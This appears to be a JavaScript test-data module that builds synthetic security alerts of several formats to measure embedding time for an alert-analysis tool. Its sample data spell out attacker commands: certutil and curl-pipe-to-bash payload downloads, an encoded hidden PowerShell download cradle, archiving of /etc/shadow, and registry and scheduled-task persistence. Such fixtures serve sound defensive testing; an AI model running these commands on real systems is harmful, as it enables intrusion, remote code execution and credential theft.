// Alerts to measure with: the page's own samples, and variations of what different products report.
// The same ones in every run. Lengths differ, because the time of an embedding follows the length.

import { readFileSync } from 'node:fs';
import { repo } from './programs.mjs';

const sample = (name) => readFileSync(`${repo}web/src/samples/${name}`, 'utf8');

// The one that the README shows.
export const readmeAlert = sample('powershell.txt');

const samples = ['powershell.txt', 'lsass.json', 'sshd.log', 'mfa.json', 'shadow_copies.txt'].map(sample);

const users = ['jsmith', 'm.keller', 'svc_backup', 'adm_reyes', 'k.patel', 'root', 'deploy'];
const hosts = ['CORP-WS-042', 'FS-07', 'CORP-DC-01', 'web-03', 'DEV-WS9', 'build-11'];
const processes = [
  ['schtasks.exe', 'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\ProgramData\\u.exe'],
  ['reg.exe', 'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\Users\\Public\\a.exe'],
  ['wmic.exe', 'wmic /node:10.20.1.58 process call create "cmd /c whoami"'],
  ['certutil.exe', 'certutil -urlcache -split -f http://203.0.113.45/p.bin C:\\Windows\\Temp\\p.exe'],
  ['rundll32.exe', 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication "'],
  ['net.exe', 'net group "Domain Admins" /domain'],
  ['curl', 'curl -s http://198.51.100.77/x.sh | bash'],
  ['nltest.exe', 'nltest /domain_trusts /all_trusts'],
  ['tar', 'tar czf /tmp/.cache.tgz /home /etc/passwd /etc/shadow'],
];

const pick = (list, number) => list[number % list.length];
const address = (number) => `192.0.2.${1 + (number % 250)}`;

const kinds = [
  (n) => `${pick(users, n)} ran ${pick(processes, n)[1]} on ${pick(hosts, n)}`,
  (n) => {
    const [name, command] = pick(processes, n);
    return JSON.stringify(
      {
        '@timestamp': `2026-03-11T02:${10 + (n % 50)}:37.512Z`,
        event: { kind: 'alert', category: ['process'], severity: 20 + (n % 80) },
        rule: { name: `Unusual use of ${name}` },
        host: { name: pick(hosts, n), ip: [address(n)] },
        user: { name: pick(users, n + 2), domain: 'CORP' },
        process: { pid: 1000 + n, name, command_line: command, parent: { name: pick(['winword.exe', 'cmd.exe', 'sshd'], n) } },
      },
      null,
      2,
    );
  },
  (n) =>
    Array.from(
      { length: 3 + (n % 12) },
      (_, line) => `Mar 14 03:2${line % 10}:07 ${pick(hosts, n)} sshd[${2000 + n + line}]: Failed password for ${pick(users, n + line)} from ${address(n)} port ${50000 + line} ssh2`,
    ).join('\n'),
  (n) => {
    const script = Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${address(n)}/stage${n}.ps1")`, 'utf16le').toString('base64');
    return `EDR alert on ${pick(hosts, n)}: powershell.exe -nop -w hidden -enc ${script}, started by ${pick(['excel.exe', 'outlook.exe', 'wscript.exe'], n)} as ${pick(users, n)}`;
  },
  (n) => `CEF:0|Example|Gateway|7.2|${4000 + n}|Beaconing to a rare address|8|src=${address(n)} dst=203.0.113.${n % 250} dpt=443 requestClientApplication=python-requests/2.31 cnt=${n * 7} msg=Same size every ${30 + n} seconds`,
];

// `count` different alerts, the page's samples first.
export function alerts(count) {
  const found = new Set(samples);
  for (let n = 0; found.size < count && n < 100 * count; n += 1) found.add(pick(kinds, n)(n));
  if (found.size < count) throw new Error(`there are only ${found.size} different alerts`);
  return [...found].slice(0, count);
}
